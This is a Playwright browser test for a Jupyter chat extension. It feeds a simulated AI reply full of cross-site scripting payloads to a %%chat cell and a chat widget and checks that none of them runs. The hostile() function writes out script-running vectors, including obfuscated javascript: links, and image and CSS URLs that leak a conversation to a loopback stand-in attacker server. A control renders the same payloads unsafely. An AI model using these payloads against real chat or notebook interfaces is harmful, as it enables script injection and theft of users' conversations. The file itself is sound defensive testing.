"""SPEC 10 in a real browser: a hostile reply runs no script and fetches nothing.

The emulator answers with markup that would run script or load an image if it were
rendered as it reads, and the reply is shown both ways a reply is shown live: a
``%%chat`` cell's output and the chat widget.  Each vector records itself as
``"<tag>:<vector>"`` in ``window.__pwned``, and every URL it would load points at a
loopback server standing in for the attacker, so a hole shows up either way.  A
control renders the very same text through ``IPython.display.Markdown`` (the unsafe
path): it must trip both detectors, which proves the test can fail.
"""

from __future__ import annotations

import json
import time

import pytest
from playwright.sync_api import Locator, Page, expect

from yagpt_magic.emulator import Emulator

from .conftest import Attacker
from .jupyter import (
    KINDS,
    ServerFactory,
    append_and_run,
    assert_only_loopback,
    cell_output_locator,
    create_notebook,
    open_notebook,
    run_cell,
    screenshot,
    wait_for_output,
)

pytestmark = pytest.mark.browser

SAFE_TEXT = "SAFE-VISIBLE-TEXT"
END_TEXT = "SAFE-END-OF-REPLY"


def hostile(tag: str, attacker: Attacker) -> str:
    """A reply that tries every way we know to run script or leak data, marked with `tag`."""
    pwn = f"(window.__pwned=window.__pwned||[]).push('{tag}:%s')"
    parent = pwn.replace("window.", "parent.")
    leak = f"{attacker.url}/%s?tag={tag}"
    return "\n".join(
        [
            f"Here is your answer. {SAFE_TEXT}",
            "",
            f'<img src=x onerror="{pwn % "img-onerror"}">',
            "",
            f"<script>{pwn % 'script'}</script>",
            "",
            f'<svg onload="{pwn % "svg-onload"}"><circle r="1"/></svg>',
            "",
            f'<iframe srcdoc="&lt;script&gt;{parent % "iframe"}&lt;/script&gt;"></iframe>',
            "",
            f"[click me](javascript:{pwn % 'js-link'})",
            "",
            f"![secret chart]({leak % 'leak'}&q=secret)",
            "",
            f'<img src="{leak % "img"}">',
            "",
            f'<div style="background:url({leak % "css"})">styled</div>',
            "",
            f"Math alt: ![$\" onerror=\"{pwn % 'math-alt'};$](x)",
            "",
            f"Math html: $<img src=x onerror=\"{pwn % 'math-html'}\">$",
            "",
            # Issue 13: marked (JupyterLab's Markdown) made these a live link and a fetch.
            "[click me](<&#106;avascript:(window.__pwned=1)//<>)",
            "",
            "[also me](javascript&#58;(window.__pwned2=1)//(",
            "",
            f"![chart](<&#104;ttp://127.0.0.1:{attacker.port}/leak.png?tag={tag}"
            "&q=SECRET-CONVERSATION<>)",
            "",
            "```python",
            "print('SAFE-CODE-FENCE')",
            "```",
            "",
            END_TEXT,
        ]
    )


def pwned(page: Page) -> list[str] | None:
    """What the hostile vectors wrote to `window.__pwned` (None if nothing ran)."""
    return page.evaluate("window.__pwned")


# What the unsafe control trips in both front ends: Jupyter runs <script> in trusted
# Markdown output, keeps event attributes and srcdoc iframes, and puts math back into
# attributes with its quotes intact.  (<svg onload> does not fire when inserted as
# innerHTML; the reply's output is checked for such elements instead.)
CONTROL_TAGS = ("control", "output-control")
CONTROL_VECTORS = ("script", "img-onerror", "iframe", "math-alt")
JS_LINK = "a[href^='javascript' i]"
CONTROL_LEAKS = ("/leak?", "/img?", "/css?", "/leak.png?")
#: javascript: links the control makes per rendering: the plain one and issue 13's two.
CONTROL_JS_LINKS = 3


def wait_for_pwned(page: Page, entries: tuple[str, ...]) -> None:
    """Wait until every vector in `entries` has run."""
    page.wait_for_function(
        "entries => entries.every(e => (window.__pwned || []).includes(e))",
        arg=list(entries),
        timeout=15_000,
    )


def wait_for_hits(attacker: Attacker, tag: str, prefixes: tuple[str, ...]) -> None:
    """Wait until the attacker has seen a `tag` request for each path prefix."""
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        if all(any(p.startswith(prefix) for p in attacker.hits(tag)) for prefix in prefixes):
            return
        time.sleep(0.05)
    raise AssertionError(f"the attacker saw {attacker.paths}, not all of {prefixes} for {tag}")


def run_control(page: Page, attacker: Attacker) -> int:
    """Render the hostile text the unsafe way, as cell output ("control") and inside an
    ipywidgets Output like the widget's ("output-control"); return the cell index."""
    cell = hostile("control", attacker)
    widget = hostile("output-control", attacker)
    index = append_and_run(
        page,
        "from IPython.display import Markdown, display\n"
        "import ipywidgets\n"
        "box = ipywidgets.Output()\n"
        f"box.append_display_data(Markdown({json.dumps(widget)}))\n"
        f"display(Markdown({json.dumps(cell)}), box)",
    )
    wait_for_output(page, index, END_TEXT)
    return index


def assert_shown_as_text(output: Locator) -> None:
    """The reply's text is there, and its markup is on screen as characters."""
    expect(output).to_contain_text(SAFE_TEXT)
    text = output.inner_text()
    for literal in ("<img", "<script>", "<svg", "<iframe", "javascript:", "SAFE-CODE-FENCE"):
        assert literal in text, f"{literal!r} is not shown as text in:\n{text}"
    # MathJax draws math as its own <mjx-container> markup, which is expected.
    live = output.locator(".jp-OutputArea-output").locator(
        "script, iframe, img, [onerror], [onload], svg:not(mjx-container svg)"
    )
    found = [live.nth(i).evaluate("e => e.outerHTML") for i in range(live.count())]
    assert found == [], f"the reply made live elements: {found}"
    assert output.locator(JS_LINK).count() == 0


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_reply_is_inert(
    kind: str,
    jupyter_server_factory: ServerFactory,
    chat_env: dict[str, str],
    emu: Emulator,
    attacker: Attacker,
    page: Page,
    page_requests: list[str],
    blocked_requests: list[str],
) -> None:
    server = jupyter_server_factory(kind, chat_env)
    name = create_notebook(server, f"xss-{kind}.ipynb", ["%load_ext yagpt_magic"])
    open_notebook(page, server, name)
    run_cell(page, 0)  # cells run in order, so the next one finds %%chat
    attacker.paths.clear()
    emu.reply_with(hostile("chat", attacker))

    cell = append_and_run(page, "%%chat\nSummarise the page I pasted.")
    output = wait_for_output(page, cell, END_TEXT)
    assert_shown_as_text(output)

    # The widget shows replies through the same renderer; send it the same attack.
    widget = append_and_run(page, "%chat widget")
    chat = cell_output_locator(page, widget).locator(".yagpt-chat")
    emu.reply_with(hostile("widget", attacker))
    chat.locator(".yagpt-input textarea").fill("And the other page?")
    chat.locator("button.yagpt-send").click()
    reply = chat.locator(".yagpt-turn").nth(1).locator(".yagpt-reply")
    expect(reply).to_contain_text(END_TEXT)
    expect(chat.locator(".yagpt-live")).to_have_count(0)
    assert_shown_as_text(reply)

    screenshot(page, f"xss-{kind}")
    assert pwned(page) is None
    assert attacker.hits("chat") == attacker.hits("widget") == []

    # The control: the same text rendered unsafely must trip both detectors...
    control = run_control(page, attacker)
    for tag in CONTROL_TAGS:
        wait_for_pwned(page, tuple(f"{tag}:{vector}" for vector in CONTROL_VECTORS))
        wait_for_hits(attacker, tag, CONTROL_LEAKS)
    screenshot(page, f"xss-{kind}-control")
    # (Jupyter opens links in a new tab, where Chromium will not run `javascript:`;
    # that such a link gets made at all is what the reply's output is checked for.)
    js_links = cell_output_locator(page, control).locator(JS_LINK).count()
    assert js_links == CONTROL_JS_LINKS * len(CONTROL_TAGS)
    # ...and once its handlers and fetches are done, the reply's would have been too.
    assert [e for e in pwned(page) or [] if not e.startswith(("control:", "output-"))] == []
    assert attacker.hits("chat") == attacker.hits("widget") == []
    # And the attacker's server does count a request from this very page.
    page.evaluate("url => fetch(url).then(r => r.status)", f"{attacker.url}/probe?tag=probe")
    assert attacker.hits("probe") == ["/probe?tag=probe"]

    assert blocked_requests == []
    assert_only_loopback(page_requests)

